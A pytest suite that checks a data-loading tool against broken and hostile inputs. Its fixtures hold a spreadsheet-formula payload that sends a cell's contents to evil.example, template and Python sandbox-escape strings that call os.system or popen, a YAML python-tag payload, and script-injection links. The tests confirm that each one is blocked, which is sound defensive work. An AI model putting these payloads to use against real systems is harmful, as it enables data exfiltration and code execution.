"""Broken and hostile inputs: every row is counted, every message names the file and lines.

Each test builds its own small files; none relies on a stored corpus.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
import yaml

from icp_helpers.data.loaders import LoadError, load_project, load_table, read_file


def write_project(tmp_path: Path, files: dict, inputs: dict, **extra) -> Path:
    for name, content in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", newline="")
    config = {"data_dir": ".", "cache_tables": False, "inputs": inputs, **extra}
    path = tmp_path / "icp.yml"
    path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    return path


def accounts_csv(n: int = 30, *, names: dict[int, str] | None = None, eol: str = "\n") -> str:
    """``n`` accounts; ``names`` replaces the name on a given physical line."""
    names = names or {}
    lines = ["account_id,name,industry,employees,country"]
    for i in range(1, n + 1):
        line = len(lines) + 1
        lines.append(f"A{i},{names.get(line, f'Account {i}')},retail,{10 + i},Italy")
    return eol.join(lines) + eol


def deals_csv(accounts: int = 30, *, extra: list[str] = ()) -> str:
    lines = ["deal_id,account_id,close_date,amount"]
    for i in range(1, accounts + 1):
        lines.append(f"D{i},A{i},2025-0{1 + i % 6}-15,{100 + i}")
    lines.extend(extra)
    return "\n".join(lines) + "\n"


def reconciled(summary: dict) -> bool:
    return summary["rows_read"] == summary["rows_used"] + summary["rows_quarantined"]


# --------------------------------------------------------------------------- quotes and lines


def test_a_stray_quote_that_swallows_rows_refuses_the_file_naming_both_lines(tmp_path):
    text = accounts_csv(30, names={10: '"Acme', 20: 'Bolt"'})
    config = write_project(tmp_path, {"accounts.csv": text}, {"accounts": {"path": "accounts.csv"}})
    with pytest.raises(LoadError) as info:
        load_table(config, "accounts")
    message = str(info.value)
    assert "accounts.csv" in message
    assert "line 10" in message and "line 20" in message
    assert "unbalanced quotes" in message


def test_a_quote_never_closed_names_the_line_it_opens_on(tmp_path):
    text = accounts_csv(12, names={7: '"Acme'})
    config = write_project(tmp_path, {"accounts.csv": text}, {"accounts": {"path": "accounts.csv"}})
    with pytest.raises(LoadError, match=r"accounts\.csv: line 7 opens a quoted cell"):
        load_table(config, "accounts")


def test_quarantine_rows_are_physical_lines_after_a_multi_line_cell(tmp_path):
    deals = (
        "deal_id,account_id,close_date,amount,note\n"
        'D1,A1,2025-01-15,100,"first line\nsecond line\nthird line"\n'  # lines 2-4
        "D2,A2,2025-02-15,200,ok\n"  # line 5
        "D3,A3,2025-02-15,-5,negative\n"  # line 6
        'D4,A4,2025-03-15,300,"a\r\nb"\n'  # lines 7-8
        "D5,A5,2025-03-15,oops,bad amount\n"  # line 9
    )
    config = write_project(
        tmp_path,
        {"accounts.csv": accounts_csv(5), "deals.csv": deals},
        {"accounts": {"path": "accounts.csv"}, "deals": {"path": "deals.csv"}},
    )
    loaded = load_project(config).tables["deals"]
    quarantine = loaded.quarantine.set_index("deal_id")
    assert quarantine.loc["D3", "source_row"] == 6
    assert quarantine.loc["D5", "source_row"] == 9
    assert loaded.summary["rows_read"] == 5 and reconciled(loaded.summary)
    assert loaded.frame.set_index("deal_id").loc["D1", "note"].split() == [
        "first",
        "line",
        "second",
        "line",
        "third",
        "line",
    ]


def test_a_bare_carriage_return_stays_inside_its_cell(tmp_path):
    text = accounts_csv(4, names={3: "Acme\rCorp"}, eol="\r\n")
    config = write_project(tmp_path, {"accounts.csv": text}, {"accounts": {"path": "accounts.csv"}})
    loaded = load_table(config, "accounts")
    assert loaded.summary["rows_read"] == 4 and reconciled(loaded.summary)
    assert loaded.frame["account_id"].tolist() == ["A1", "A2", "A3", "A4"]
    assert loaded.frame["country"].tolist() == ["Italy"] * 4  # no CR left on the last cell
    assert any("line 3" in w and "carriage return" in w for w in loaded.summary["warnings"])


def test_classic_mac_line_ends_still_read_line_by_line(tmp_path):
    text = accounts_csv(5, eol="\r")
    config = write_project(tmp_path, {"accounts.csv": text}, {"accounts": {"path": "accounts.csv"}})
    loaded = load_table(config, "accounts")
    assert loaded.summary["rows_read"] == 5 and reconciled(loaded.summary)
    assert not loaded.summary["warnings"] or all(
        "carriage" not in w for w in loaded.summary["warnings"]
    )


def test_a_literal_inch_quote_inside_a_value_keeps_line_numbers(tmp_path):
    text = (
        "account_id,name,industry,employees,country\n"
        'A1,12" pipes,retail,10,Italy\n'
        'A2,"two\nlines",retail,x,Italy\n'
        "A3,Third,retail,-4,Italy\n"
    )
    raw = read_file(_write(tmp_path / "a.csv", text))
    assert raw.rows.tolist() == [2, 3, 5]


def test_a_field_count_error_is_reported_at_its_physical_line(tmp_path):
    text = (
        "account_id,name,industry,employees,country\n"
        'A1,"two\nlines",retail,10,Italy\n'
        "A2,Beta,retail,10,Italy,extra,more\n"
    )
    with pytest.raises(LoadError, match=r"line 4 has 7 fields where the header has 5"):
        read_file(_write(tmp_path / "a.csv", text))


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


def test_utf16_file_with_a_multi_line_cell_numbers_lines(tmp_path):
    text = 'account_id,name,industry,employees,country\nA1,"x\ny",retail,10,Italy\nA2,B,retail,1,Italy\n'
    path = tmp_path / "a.csv"
    path.write_bytes(text.encode("utf-16"))
    assert read_file(path).rows.tolist() == [2, 4]


def test_large_files_without_multi_line_cells_take_the_counting_path_only(tmp_path, monkeypatch):
    import icp_helpers.data.reading as reading

    def fail(*args, **kwargs):
        raise AssertionError("per-line statistics computed for a plain file")

    monkeypatch.setattr(reading, "line_stats", fail)
    raw = read_file(_write(tmp_path / "a.csv", accounts_csv(2000)))
    assert len(raw.frame) == 2000 and raw.rows[-1] == 2001


# --------------------------------------------------------------------------- formula guard

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    " @cmd",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_formula_guard_covers_every_owasp_prefix_also_after_spaces(text):
    from icp_helpers.data.formulas import is_formula, safe_cell

    assert is_formula(text)
    assert safe_cell(text) == "'" + text
    assert not is_formula(safe_cell(text))


def test_quarantine_files_guard_headers_and_cells(tmp_path):
    from icp_helpers.data.formulas import is_formula
    from icp_helpers.data.loaders import write_quarantine

    header = "account_id,name,industry,employees,country,=1+1\n"
    rows = "A0,Fine,retail,12,Italy,ok\n"  # the later rows repeat its id: set aside
    rows += "".join(f"A0,{text},retail,3,Italy,{text}\n" for text in DANGEROUS[1:5])
    config = write_project(
        tmp_path, {"accounts.csv": header + rows}, {"accounts": {"path": "accounts.csv"}}
    )
    project = load_project(config)
    assert project.tables["accounts"].summary["rows_quarantined"] == 4
    written = write_quarantine(project, tmp_path / "run")
    text = (tmp_path / "run" / "quarantine" / "accounts.csv").read_text(encoding="utf-8")
    import csv as csv_module

    records = list(csv_module.reader(text.splitlines()))
    cells = [c for record in records for c in record]
    assert "'=1+1" in records[0]
    assert not any(is_formula(c) for c in cells)
    assert any(c == "'+1+1" for c in cells)
    assert written


def test_commonalities_workbook_shows_formula_like_traits_as_text(tmp_path):
    from openpyxl import load_workbook

    from icp_helpers.customers.commonalities import write_traits_document

    table = pd.DataFrame(
        {
            "trait": ['=HYPERLINK("http://evil.example","x")=yes', "@cmd=1"],
            "kind": ["categorical", "categorical"],
            "best": [0.5, 0.2],
            "rest": [0.1, 0.2],
        }
    )
    path = write_traits_document(table, tmp_path / "commonalities.xlsx", notes=[("=note", "-2+3")])
    book = load_workbook(path)
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert '\'=HYPERLINK("http://evil.example","x")=yes' in values
    assert "'=note" in values and "'-2+3" in values


def test_scored_exports_guard_headers_after_leading_spaces(tmp_path):
    from openpyxl import load_workbook

    from icp_helpers.profile.export import write_scored

    frame = pd.DataFrame({"account_id": ["A1"], "  =1+1": [" =2+2"], "amount": [-5.0]})
    written = write_scored(frame, tmp_path, "scored_accounts")
    text = written["csv"].read_text(encoding="utf-8-sig")
    assert "'  =1+1" in text and "' =2+2" in text and "-5" in text
    cells = [c for row in load_workbook(written["xlsx"]).active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)


# --------------------------------------------------------------------------- configs are data


def test_a_card_template_cannot_reach_python(tmp_path):
    from icp_helpers.profile.card import TemplateSecurityError, render_card

    template = tmp_path / "card.html.j2"
    template.write_text("{{ cycler.__init__.__globals__.os.popen('id').read() }}", encoding="utf-8")
    with pytest.raises(TemplateSecurityError, match=r"card\.html\.j2: the card template tries"):
        render_card({}, template=template)
    template.write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}", encoding="utf-8")
    with pytest.raises(TemplateSecurityError):
        render_card({}, template=template, fmt="markdown")


ORDERS = (
    "order_id,customer,order_date,order_time,quantity,unit_price,country,city\n"
    "1,C1,2025-03-04,14:05,2,10.5,IT,Rome\n"
    "2,C2,2025-03-05,09:30,1,0123,DE,Bonn\n"
)


def _deals_with(tmp_path: Path, derive: dict, **columns) -> Path:
    accounts = "account_id,industry,employees,country\nC1,retail,5,IT\nC2,retail,7,DE\n"
    return write_project(
        tmp_path,
        {"accounts.csv": accounts, "orders.csv": ORDERS},
        {
            "accounts": {"path": "accounts.csv"},
            "deals": {
                "path": "orders.csv",
                "columns": {"customer": "account_id", "order_id": "deal_id", **columns},
                "derive": derive,
            },
        },
    )


@pytest.mark.parametrize(
    "expression",
    [
        "quantity.__class__.__init__.__globals__['os'].system('touch {marker}')",
        "__import__('os').system('touch {marker}')",
        "[c for c in ().__class__.__base__.__subclasses__()]",
        "(lambda: 1)()",
        "quantity, unit_price",
        "open('{marker}', 'w')",
    ],
)
def test_a_derive_expression_is_data_not_code(tmp_path, expression):
    marker = tmp_path / "pwned"
    expression = expression.format(marker=marker)
    config = _deals_with(tmp_path, {"amount": expression, "close_date": "order_date"})
    with pytest.raises(LoadError) as info:
        load_project(config)
    assert "inputs.deals.derive.amount: cannot evaluate" in str(info.value)
    assert repr(expression) in str(info.value)
    assert not marker.exists()


def test_derive_joins_text_uses_literals_index_and_raw_date_text(tmp_path):
    derive = {
        "amount": "quantity * unit_price",
        "close_date": "raw(order_date) + ' ' + raw(order_time)",
        "shop": "country + '_' + city",
        "code": "'#' + unit_price",
        "position": "index + 1",
        "big": "'yes' if quantity * unit_price > 20 else 'no'",
    }
    loaded = load_project(_deals_with(tmp_path, derive)).deals.set_index("deal_id")
    assert loaded["amount"].tolist() == [21.0, 123.0]
    assert loaded["close_date"].dt.hour.tolist() == [14, 9]
    assert loaded["shop"].tolist() == ["IT_Rome", "DE_Bonn"]
    assert loaded["code"].tolist() == ["#10.5", "#0123"]  # joined as text, spelled as read
    assert loaded["position"].tolist() == [1, 2]
    assert loaded["big"].tolist() == ["yes", "yes"]


def test_the_expression_language_refuses_unknown_functions_by_name():
    from icp_helpers.data.expressions import ExpressionError, evaluate

    frame = pd.DataFrame({"a": [1.0, 2.0]})
    with pytest.raises(ExpressionError, match=r"'eval\(a\)': only these functions may be called"):
        evaluate("eval(a)", frame)
    assert evaluate("max(a, 1.5) + abs(-1)", frame).tolist() == [2.5, 3.0]


# --------------------------------------------------------------------------- numbers and dates


def _deals_project(
    tmp_path: Path, deals: str, accounts: str | None = None, *, deals_spec=None, **extra
) -> Path:
    return write_project(
        tmp_path,
        {"accounts.csv": accounts or accounts_csv(5), "deals.csv": deals},
        {
            "accounts": {"path": "accounts.csv"},
            "deals": {"path": "deals.csv", **(deals_spec or {})},
        },
        **extra,
    )


def test_overflowing_amounts_are_set_aside_and_sums_stay_finite(tmp_path):
    deals = (
        "deal_id,account_id,close_date,amount\n"
        "D1,A1,2025-01-15,1e308\n"
        "D2,A2,2025-01-16,1e308\n"
        "D3,A3,2025-01-17,250\n"
        "D4,A4,2025-01-18,inf\n"
    )
    loaded = load_project(_deals_project(tmp_path, deals)).tables["deals"]
    quarantine = loaded.quarantine.set_index("deal_id")
    assert quarantine.loc["D1", "reason"] == "implausibly large amount"
    assert quarantine.loc["D1", "source_row"] == 2 and quarantine.loc["D2", "source_row"] == 3
    assert quarantine.loc["D4", "reason"] == "non-numeric amount"
    assert loaded.frame["amount"].sum() == 250
    assert loaded.summary["rows_read"] == 4 and reconciled(loaded.summary)


def test_an_ambiguous_thousands_separator_is_reported_and_settable(tmp_path):
    deals = (
        "deal_id,account_id,close_date,amount\n"
        "D1,A1,2025-01-15,1.234\n"
        "D2,A2,2025-01-16,€1.234\n"
        "D3,A3,2025-01-17,250\n"
    )
    loaded = load_project(_deals_project(tmp_path / "a", deals)).tables["deals"]
    assert loaded.frame["amount"].tolist() == [1.234, 1.234, 250.0]  # one reading for both
    assert any("'1.234'" in w and "decimal_separator" in w for w in loaded.summary["warnings"])
    config = _deals_project(tmp_path / "b", deals, deals_spec={"decimal_separator": ","})
    assert load_project(config).deals["amount"].tolist() == [1234.0, 1234.0, 250.0]


def test_a_column_that_shows_its_decimal_comma_decides_the_ambiguous_values(tmp_path):
    deals = (
        'deal_id,account_id,close_date,amount\nD1,A1,2025-01-15,"1.234"\nD2,A2,2025-01-16,"12,50"\n'
    )
    loaded = load_project(_deals_project(tmp_path, deals)).tables["deals"]
    assert loaded.frame["amount"].tolist() == [1234.0, 12.5]
    assert any("decimal comma" in w for w in loaded.summary["warnings"])


def test_far_future_and_ancient_dates_are_set_aside(tmp_path):
    from icp_helpers.data.loaders import latest_quarter

    deals = (
        "deal_id,account_id,close_date,amount\n"
        "D1,A1,2025-01-15,100\n"
        "D2,A2,2100-06-30,100\n"
        "D3,A3,1899-12-31,100\n"
        "D4,A4,2025-06-15,100\n"
    )
    config = _deals_project(tmp_path, deals)
    loaded = load_project(config).tables["deals"]
    quarantine = loaded.quarantine.set_index("deal_id")
    assert set(quarantine.index) == {"D2", "D3"}
    assert quarantine.loc["D2", "reason"].startswith(
        "implausible close_date (before 1900-01-01 or after"
    )
    assert quarantine.loc["D3", "source_row"] == 4
    assert reconciled(loaded.summary)
    assert str(latest_quarter(config)) == "2025Q2"


def test_the_plausible_date_range_is_configurable(tmp_path):
    deals = "deal_id,account_id,close_date,amount\nD1,A1,2025-01-15,100\nD2,A2,2031-06-30,100\n"
    config = _deals_project(tmp_path, deals, limits={"date_max": "2035-12-31"})
    assert load_project(config).tables["deals"].summary["rows_quarantined"] == 0


def test_a_bad_churned_date_blanks_the_field_and_keeps_the_account_and_its_deals(tmp_path):
    accounts = (
        "account_id,name,industry,employees,country,churned_date\n"
        "A1,Alpha,retail,10,Italy,\n"
        "A2,Beta,retail,12,Italy,2026-02-30\n"
        "A3,Gamma,retail,14,Italy,2024-05-01\n"
    )
    deals = "".join(f"D{i},A2,2025-0{i}-15,100\n" for i in range(1, 7))
    deals = "deal_id,account_id,close_date,amount\n" + deals
    project = load_project(_deals_project(tmp_path, deals, accounts))
    accounts_loaded = project.tables["accounts"]
    assert accounts_loaded.summary["rows_quarantined"] == 0
    assert pd.isna(project.accounts.set_index("account_id").loc["A2", "churned_date"])
    assert any(
        "churned_date" in w and "line 3" in w and "2026-02-30" in w
        for w in accounts_loaded.summary["warnings"]
    )
    assert project.tables["deals"].summary["rows_used"] == 6  # no deal orphaned


# --------------------------------------------------------------------------- quarantine reaches the run


def test_every_notebook_that_loads_tables_writes_their_quarantine():
    import json

    from icp_helpers.data.config import NOTEBOOKS_DIR

    for path in sorted(NOTEBOOKS_DIR.glob("*.ipynb")):
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        code = "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code")
        if "load_project(" in code:
            assert "write_quarantine(project, run.run_dir)" in code, path.name


def test_quarantined_prospects_reach_the_summary_the_index_reads(tmp_path):
    from icp_helpers.data.loaders import write_quarantine
    from icp_helpers.reports.runner import _warnings

    prospects = "prospect_id,industry,employees,country\nP1,retail,5,Italy\nP1,retail,7,Italy\nP2,deli,3,Spain\n"
    config = write_project(
        tmp_path, {"prospects.csv": prospects}, {"prospects": {"path": "prospects.csv"}}
    )
    project = load_project(config, tables=["prospects"])
    run = tmp_path / "run"
    write_quarantine(project, run)
    quarantine = pd.read_csv(run / "quarantine" / "prospects.csv")
    assert quarantine["source_row"].tolist() == [3]
    found = _warnings(run, {})
    assert any(w.startswith("prospects: 1 of 3 rows set aside") for w in found)


# --------------------------------------------------------------------------- patterns and timeouts


def _coder(patterns):
    from icp_helpers.interviews.coding import RuleCoder

    book = pd.DataFrame(
        [
            {
                "code": f"pain:p{i}",
                "dimension": "pain_point",
                "description": "",
                "keywords": [],
                "patterns": [p],
            }
            for i, p in enumerate(patterns)
        ]
    )
    return RuleCoder(book, dimension_questions={}).fit()


def test_a_catastrophic_backtracking_pattern_runs_in_linear_time():
    coder = _coder([r"^(\w|\w)+$", r"(a+)+b"])
    assert coder.code_text("a" * 40 + "!") == {}
    assert coder.code_text("a" * 40 + "b") == {"pain:p0": "a" * 40 + "b", "pain:p1": "a" * 40 + "b"}


def test_patterns_keep_unicode_word_classes_and_boundaries():
    coder = _coder([r"\bتاخیر\b", r"\w+ly\b"])
    assert coder.code_text("ارسال با تاخیر بود") == {"pain:p0": "تاخیر"}
    assert coder.code_text("ارسال با تاخیرها بود") == {}
    assert coder.code_text("we order weekly") == {"pain:p1": "weekly"}


def test_a_pattern_the_linear_engine_cannot_run_is_refused_with_the_reason():
    from icp_helpers.interviews.coding import CodebookError

    with pytest.raises(CodebookError, match=r"pain:p0.*lookahead and lookbehind are not supported"):
        _coder([r"(?<!not )late"])


def test_a_cell_that_runs_too_long_fails_its_step_naming_the_cell(tmp_path):
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    from icp_helpers.reports.runner import run_quarter

    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "accounts.csv").write_text(
        "account_id,industry,employees,country\nA1,retail,10,Italy\n"
    )
    (folder / "deals.csv").write_text(
        "deal_id,account_id,close_date,amount\nD1,A1,2026-01-15,100\n"
    )
    config = folder / "icp.yml"
    config.write_text(
        "reports_dir: reports\nlimits: {cell_timeout_s: 2}\ninputs:\n"
        "  accounts: {path: accounts.csv}\n  deals: {path: deals.csv}\n"
    )
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    nb = new_notebook(
        cells=[
            new_code_cell(
                'config_path: str = ""\nquarter: str = ""\nrun_dir: str = ""',
                metadata={"tags": ["parameters"]},
            ),
            new_code_cell("import time\ntime.sleep(60)  # a runaway step"),
        ],
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
    )
    nbformat.write(nb, notebooks / "01_slow.ipynb")
    result = run_quarter(
        config, "2026Q1", notebooks=("01_slow",), notebooks_dir=notebooks, html=False, expected={}
    )
    assert result.status == "failed"
    error = result.notebooks[0].error
    assert "('import time') ran longer than the cell timeout of 2 s" in error
    assert "cell_timeout_s" in error


# --------------------------------------------------------------------------- limits


def test_a_table_wider_than_the_limit_is_refused_before_any_column_work(tmp_path):
    header = "account_id,industry,employees,country," + ",".join(f"c{i}" for i in range(60))
    text = header + "\n" + "A1,retail,3,Italy," + ",".join("x" * 60) + "\n"
    config = write_project(
        tmp_path,
        {"accounts.csv": text},
        {"accounts": {"path": "accounts.csv"}},
        limits={"max_columns": 50},
    )
    with pytest.raises(LoadError, match=r"accounts\.csv: 64 columns, more than the limit of 50"):
        load_project(config)


def test_a_very_long_cell_is_reported_kept_whole_and_cut_visibly_in_xlsx(tmp_path):
    from openpyxl import load_workbook

    from icp_helpers.profile.export import write_scored

    name = "N" * 50_000
    text = f"account_id,name,industry,employees,country\nA1,{name},retail,3,Italy\nA2,Short,deli,4,Spain\n"
    config = write_project(
        tmp_path,
        {"accounts.csv": text},
        {"accounts": {"path": "accounts.csv"}},
        limits={"max_cell_chars": 1000},
    )
    loaded = load_project(config).tables["accounts"]
    assert loaded.frame["name"].str.len().tolist() == [50_000, 5]
    assert any("'name'" in w and "line 2" in w and "1,000" in w for w in loaded.summary["warnings"])
    written = write_scored(
        loaded.frame[["account_id", "name"]], tmp_path / "out", "scored_accounts"
    )
    cell = load_workbook(written["xlsx"]).active["B2"].value
    assert len(cell) <= 32_767 and cell.endswith(
        "[cut: 50,000 characters in all; the CSV holds the whole text]"
    )
    assert name in written["csv"].read_text(encoding="utf-8-sig")


BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(11)
)


def test_a_yaml_bomb_in_a_codebook_is_refused(tmp_path):
    codebook = BOMB + "codes:\n  - code: pain:x\n    dimension: pain_point\n    description: d\n"
    path = tmp_path / "codebook.yml"
    path.write_text(codebook, encoding="utf-8")
    with pytest.raises(
        LoadError, match=r"codebook\.yml: 110 YAML aliases .*limits\.yaml_max_aliases"
    ):
        read_file(path)


@pytest.mark.parametrize(
    "text, expected",
    [("a: [1\n", "not valid YAML"), ("a: !!python/object/apply:os.system ['id']\n", "!!python")],
)
def test_a_broken_or_python_tagged_preset_is_a_clear_config_error(tmp_path, text, expected):
    from icp_helpers.data.config import ConfigError

    (tmp_path / "mine.yml").write_text(text, encoding="utf-8")
    accounts = "account_id,industry,employees,country\nA1,retail,3,Italy\n"
    config = write_project(
        tmp_path,
        {"accounts.csv": accounts},
        {"accounts": {"path": "accounts.csv", "preset": "mine.yml"}},
    )
    with pytest.raises(ConfigError, match=expected) as info:
        load_project(config)
    assert "mine.yml" in str(info.value)


def test_front_matter_with_too_many_aliases_is_refused(tmp_path):
    from icp_helpers.data.transcripts import TranscriptError, read_transcripts

    folder = tmp_path / "transcripts"
    folder.mkdir()
    (folder / "t1.md").write_text(
        f"---\n{BOMB}---\n## how_found\nA trade show.\n", encoding="utf-8"
    )
    with pytest.raises(TranscriptError, match=r"t1\.md \(front matter\): 110 YAML aliases"):
        read_transcripts(folder)


# --------------------------------------------------------------------------- exit codes, locks, publish


def _cli(*args):
    from typer.testing import CliRunner

    from icp_helpers.cli import app

    return CliRunner().invoke(app, list(args))


def _small_project(tmp_path: Path, **extra) -> Path:
    return write_project(
        tmp_path,
        {"accounts.csv": accounts_csv(3), "deals.csv": deals_csv(3)},
        {"accounts": {"path": "accounts.csv"}, "deals": {"path": "deals.csv"}},
        reports_dir="reports",
        **extra,
    )


@pytest.mark.parametrize(
    "inputs, expected",
    [
        (
            {"deals": {"path": "deals.csv", "derive": {"amount": "amount, amount"}}},
            "not a tuple or list",
        ),
        ({"accounts": {"path": "accounts.csv", "preset": "bad.yml"}}, "not valid YAML"),
        ({"accounts": {"path": "accounts.csv", "preset": "evil.yml"}}, "!!python"),
    ],
)
def test_bad_inputs_exit_2_with_one_message_and_no_traceback(tmp_path, inputs, expected):
    (tmp_path / "bad.yml").write_text("tables: [1\n", encoding="utf-8")
    (tmp_path / "evil.yml").write_text(
        "tables: !!python/object/apply:os.system ['id']\n", encoding="utf-8"
    )
    base = {"accounts": {"path": "accounts.csv"}, "deals": {"path": "deals.csv"}}
    config = write_project(
        tmp_path, {"accounts.csv": accounts_csv(3), "deals.csv": deals_csv(3)}, {**base, **inputs}
    )
    result = _cli("validate", "--config", str(config))
    assert result.exit_code == 2
    assert expected in result.output and "Traceback" not in result.output


def test_a_reports_folder_that_cannot_be_created_is_a_clear_error(tmp_path):
    config = _small_project(tmp_path)
    (tmp_path / "reports").write_text("a file where the folder should be", encoding="utf-8")
    result = _cli("run", "--config", str(config), "--quarter", "2025Q1")
    assert result.exit_code == 2
    assert "reports folder cannot be created" in result.output and "Traceback" not in result.output


def test_a_second_run_of_a_locked_quarter_refuses_with_exit_3(tmp_path):
    import subprocess
    import sys

    config = _small_project(tmp_path)
    reports = tmp_path / "reports"
    reports.mkdir()
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from icp_helpers.reports.runner import quarter_lock; "
            f"lock = quarter_lock({str(reports)!r}, '2025Q1'); lock.acquire(); "
            "print('held', flush=True); time.sleep(60)",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        result = _cli("run", "--config", str(config), "--quarter", "2025Q1")
    finally:
        holder.kill()
        holder.wait()
    assert result.exit_code == 3
    assert "2025Q1 is being run by another process" in result.output
    assert "Traceback" not in result.output


def test_a_publish_killed_between_its_two_moves_is_restored_by_validate(tmp_path):
    import subprocess
    import sys

    config = _small_project(tmp_path)
    reports = tmp_path / "reports"
    (reports / "2025Q2").mkdir(parents=True)
    (reports / "2025Q2" / "index.html").write_text("the last good report", encoding="utf-8")
    (reports / ".2025Q2.partial").mkdir()
    (reports / ".2025Q2.partial" / "index.html").write_text("the new report", encoding="utf-8")
    script = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "import icp_helpers.reports.runner as runner\n"
        "real = os.replace\n"
        "def replace(a, b):\n"
        "    real(a, b)\n"
        "    os.kill(os.getpid(), signal.SIGKILL)  # killed right after the first move\n"
        "os.replace = replace\n"
        "reports = Path(sys.argv[1])\n"
        "runner._replace_dir(reports / '.2025Q2.partial', reports / '2025Q2')\n"
    )
    killed = subprocess.run([sys.executable, "-c", script, str(reports)], check=False)
    assert killed.returncode == -9
    assert not (reports / "2025Q2").exists() and (reports / ".2025Q2.previous").is_dir()
    result = _cli("validate", "--config", str(config))
    assert result.exit_code == 0, result.output
    assert "restored the last published report" in result.output
    assert (reports / "2025Q2" / "index.html").read_text(encoding="utf-8") == "the last good report"
    assert not (reports / ".2025Q2.previous").exists()


# --------------------------------------------------------------------------- markdown from data


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert('md'))",
        '<a href="javascript:alert(1)">click</a>',
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<img src=x onerror="alert(1)">',
        "<script>alert(1)</script>",
    ],
)
def test_markdown_from_data_has_no_live_unsafe_link(text):
    from icp_helpers.reports.safe_markdown import Markdown

    html = Markdown(f"Codebook example: {text}")._repr_html_().lower()
    assert 'href="javascript' not in html and 'href="data:' not in html
    assert "<script" not in html and "onerror" not in html


def test_markdown_keeps_ordinary_formatting_and_web_links():
    from icp_helpers.reports.safe_markdown import Markdown

    html = Markdown("**bold** and [site](https://example.com)")._repr_html_()
    assert "<strong>bold</strong>" in html and 'href="https://example.com"' in html


def test_no_notebook_renders_data_through_ipython_markdown():
    from icp_helpers.data.config import NOTEBOOKS_DIR

    for path in sorted(NOTEBOOKS_DIR.glob("*.ipynb")):
        text = path.read_text(encoding="utf-8")
        assert "from IPython.display import Markdown" not in text, path.name
        assert "HTML, Markdown" not in text, path.name


# --------------------------------------------------------------------------- separators


def test_columns_aligned_with_spaces_are_detected(tmp_path):
    text = (
        "account_id   industry   employees  country\n"
        "A1           retail     10         Italy\n"
        "\n"
        "A2           deli       250        Spain\n"
    )
    raw = read_file(_write(tmp_path / "a.txt", text))
    assert list(raw.frame.columns) == ["account_id", "industry", "employees", "country"]
    assert raw.frame["country"].tolist() == ["Italy", "Spain"] and raw.rows.tolist() == [2, 4]


@pytest.mark.parametrize("separator", ["~", "^", ":"])
def test_other_separators_are_detected_or_settable(tmp_path, separator):
    text = separator.join(["account_id", "industry", "employees", "country"]) + "\n"
    text += separator.join(["A1", "retail", "10", "Italy"]) + "\n"
    config = write_project(
        tmp_path,
        {"accounts.csv": text},
        {"accounts": {"path": "accounts.csv", **({"delimiter": ":"} if separator == ":" else {})}},
    )
    assert load_project(config).accounts["country"].tolist() == ["Italy"]


def test_a_header_read_as_one_column_says_so_and_names_the_separator(tmp_path):
    text = "account_id:industry:employees:country\nA1:retail:10:Italy\n"
    config = write_project(tmp_path, {"accounts.csv": text}, {"accounts": {"path": "accounts.csv"}})
    with pytest.raises(LoadError) as info:
        load_project(config)
    message = str(info.value)
    assert "header reads as one column" in message
    assert "':' (delimiter: ':')" in message and "inputs.accounts.delimiter" in message


def test_whitespace_is_a_settable_delimiter(tmp_path):
    text = "account_id industry employees country\nA1 retail 10 Italy\n"
    config = write_project(
        tmp_path,
        {"accounts.csv": text},
        {"accounts": {"path": "accounts.csv", "delimiter": "whitespace"}},
    )
    assert load_project(config).accounts["employees"].tolist() == [10]


def test_a_huge_account_name_is_shortened_on_the_card():
    from icp_helpers.profile.card import _examples

    scored = pd.DataFrame(
        {"account_id": ["A1"], "fit_score": [3.0], "tier": ["A"], "matched_traits": ["x"]}
    )
    items = _examples(scored, {"A1"}, {"A1": "N" * 10_000_000}, 5)
    assert len(items[0]["name"]) == 120 and items[0]["name"].endswith("…")


def test_an_open_deal_may_expect_to_close_after_the_plausible_range(tmp_path):
    deals = (
        "deal_id,account_id,close_date,amount,stage\n"
        "D1,A1,2025-01-15,100,won\n"
        "D2,A2,2100-06-30,100,open\n"
        "D3,A3,2100-06-30,100,won\n"
        "D4,A4,1850-01-01,100,open\n"
    )
    loaded = load_project(_deals_project(tmp_path, deals)).tables["deals"]
    assert sorted(loaded.quarantine["deal_id"]) == ["D3", "D4"]
    kept = loaded.frame.set_index("deal_id")
    assert kept.loc["D2", "close_date"] == pd.Timestamp("2100-06-30")
    assert reconciled(loaded.summary)


def test_a_deeply_nested_expression_is_refused_not_a_recursion_error():
    from icp_helpers.data.expressions import ExpressionError, evaluate

    frame = pd.DataFrame({"a": [1.0]})
    with pytest.raises(ExpressionError, match=r"nested 1000 levels deep \(at most 100\)"):
        evaluate("+".join(["a"] * 999), frame)
    with pytest.raises(ExpressionError, match="levels deep"):
        evaluate("-" * 1999 + "a", frame)


